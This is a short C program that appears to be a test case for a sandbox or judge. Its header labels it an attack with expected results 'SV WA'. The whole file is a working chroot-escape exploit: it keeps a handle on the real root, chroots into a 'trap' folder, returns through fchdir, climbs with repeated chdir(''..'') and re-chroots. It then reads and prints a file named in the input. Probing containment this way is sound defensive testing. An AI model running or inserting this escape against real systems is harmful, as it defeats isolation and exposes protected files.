// attack: climbs out of the root with chroot and a folder that was opened before
// expect: SV WA

#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    char word[9][400];
    for (int i = 0; i < 6; i++) scanf("%399s", word[i]);
    int top = open("/", O_RDONLY);
    mkdir("trap", 0755);
    if (chroot("trap") == 0) {
        puts("BREACH: chroot is permitted");
        fchdir(top);
        for (int i = 0; i < 50; i++) chdir("..");
        chroot(".");
        FILE *secret = fopen(word[5], "r");
        char text[100];
        if (secret && fgets(text, sizeof text, secret)) puts(text);
    }
    puts("contained");
}
